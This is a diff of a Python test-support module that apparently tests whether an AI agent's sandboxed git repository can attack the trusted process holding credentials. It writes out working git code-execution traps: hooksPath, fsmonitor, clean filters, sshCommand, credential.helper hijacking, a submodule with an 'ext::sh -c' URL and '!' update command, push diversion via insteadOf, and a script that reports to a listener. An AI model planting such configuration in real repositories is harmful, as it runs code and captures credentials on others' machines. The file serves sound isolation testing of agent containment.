@@ -1,4 +1,4 @@
-"""An agent that turns its `.git` into traps: they catch its own git, and never the keeper, which holds the credential."""
+"""Traps in an agent's git repository, and the server to which they report where they ran."""
 
 import socketserver
 import threading
@@ -8,10 +8,8 @@ from string import Template
 
 from attrs import define, field
 
-from tests.support.cluster import environment
-from tests.support.site import Site
+from tests.escape.attempts import TRAPS
 
-HOW = "hack/cluster exec --name node -- .venv/bin/pytest tests/node"
 HOOKS = (
     "pre-commit",
     "post-commit",
@@ -20,9 +18,9 @@ HOOKS = (
     "post-checkout",
     "post-index-change",
 )
-TRAPS = (*HOOKS, "fsmonitor", "filter", "ssh")
-#: Reports by name where it runs: only clone and keeper have the credentials mounted.
-TRAP = """\
+NAMES = tuple(attempt.name for attempt in TRAPS)
+#: Reports by name where it runs: only clone and keeper have the credential mounted.
+TRAP = Template("""\
 #!/usr/bin/python3
 import os, socket, sys
 name = os.path.basename(sys.argv[0])
@@ -31,10 +29,12 @@ with socket.create_connection(("$host", $port), 5) as connection:
     connection.sendall(f"{name} {where}".encode())
 if name == "filter":
     sys.stdout.buffer.write(sys.stdin.buffer.read())
+if name == "git":
+    os.execv("/usr/bin/git", sys.argv)
 sys.exit(name == "ssh")
-"""
-#: Sets every trap, steps into each of them (the control), and leaves something for the keeper to commit and push.
-SET_TRAPS = Template("""\
+""")
+#: Sets every trap in the repository of the present directory.
+SET = Template("""\
 set -e
 mkdir .git/traps
 cat > .git/traps/trap << 'END'
@@ -43,24 +43,43 @@ END
 chmod +x .git/traps/trap
 for name in $names; do ln -s trap .git/traps/$$name; done
 traps=$$PWD/.git/traps
+cp .git/traps/trap git
 
 echo mine > mine.txt && git add mine.txt && git commit --quiet --message Mine
+git init --quiet nested && (cd nested
+  git -c user.name=a -c user.email=a@b commit --quiet --allow-empty --message One
+  git -c user.name=a -c user.email=a@b commit --quiet --allow-empty --message Two)
+git update-index --add --cacheinfo 160000,$$(git -C nested rev-parse HEAD~1),nested
+git config -f .gitmodules submodule.nested.path nested
+git config -f .gitmodules submodule.nested.url "ext::sh -c $$traps/submodule"
+git config submodule.nested.url ./nested
+git config submodule.nested.update '!'"$$traps/submodule"
+
 git config core.hooksPath "$$traps"
 git config core.fsmonitor "$$traps/fsmonitor"
 git config core.sshCommand "$$traps/ssh"
+git config credential.helper "$$traps/helper"
 git config filter.trap.clean "$$traps/filter"
 git config filter.trap.required true
 git config url.$elsewhere.insteadOf "$$(git config remote.origin.url)"
 echo '* filter=trap' > .gitattributes
-
+""")
+#: Steps into each of them, as whoever runs git in the agent's repository does.
+STEP = """\
 echo caught > caught.txt && git add caught.txt .gitattributes && git commit --quiet --message Caught
 git status --short
 git checkout --quiet -b aside && git checkout --quiet -
 git init --quiet --bare /tmp/nearby && git push --quiet /tmp/nearby HEAD:refs/heads/x
 git ls-remote origin || true
-echo "origin is $$(git remote get-url origin)"
-echo left > left.txt
-""")
+printf 'protocol=https\\nhost=git.example.invalid\\n\\n' | GIT_TERMINAL_PROMPT=0 git credential fill || true
+git submodule update nested || true
+"""
+
+
+def setting(host: str, port: int, elsewhere: str) -> str:
+    """The shell text that sets all traps; `elsewhere` is the repository to which pushes are to be diverted."""
+    trap = TRAP.substitute(host=host, port=port)
+    return SET.substitute(trap=trap, names=" ".join(NAMES), elsewhere=elsewhere)
 
 
 @define
@@ -86,27 +105,3 @@ def listening(address: str) -> Iterator[Listener]:
         yield listener
         server.shutdown()
         thread.join()
-
-
-def test_traps_in_the_agent_s_git_catch_nobody_but_the_agent(site: Site) -> None:
-    address = environment("GASTOWN_LAB_NODE_ADDRESS", HOW)
-    rig, elsewhere = site.rig("hostile"), site.rig("elsewhere")
-    with listening(address) as listener:
-        trap = Template(TRAP).substitute(host=address, port=listener.port)
-        script = SET_TRAPS.substitute(
-            trap=trap, names=" ".join(TRAPS), elsewhere=site.git.ssh_url(elsewhere.repository)
-        )
-        polecat = rig.sling("hostile", script)
-        status = polecat.tells("Done", "Done", "polecat/hostile")
-        assert listener.reports == {f"{name} in the agent" for name in TRAPS}
-    agent = site.cluster.log(rig.namespace, "polecat-hostile", "agent")
-    assert f"origin is {site.git.ssh_url(elsewhere.repository)}" in agent
-    assert rig.files(status["headCommit"]) == {
-        "README.md",
-        "mine.txt",
-        "caught.txt",
-        "left.txt",
-        ".gitattributes",
-    }
-    assert rig.refs["refs/heads/polecat/hostile"] == status["headCommit"]
-    assert set(elsewhere.refs) == {"refs/heads/main"}
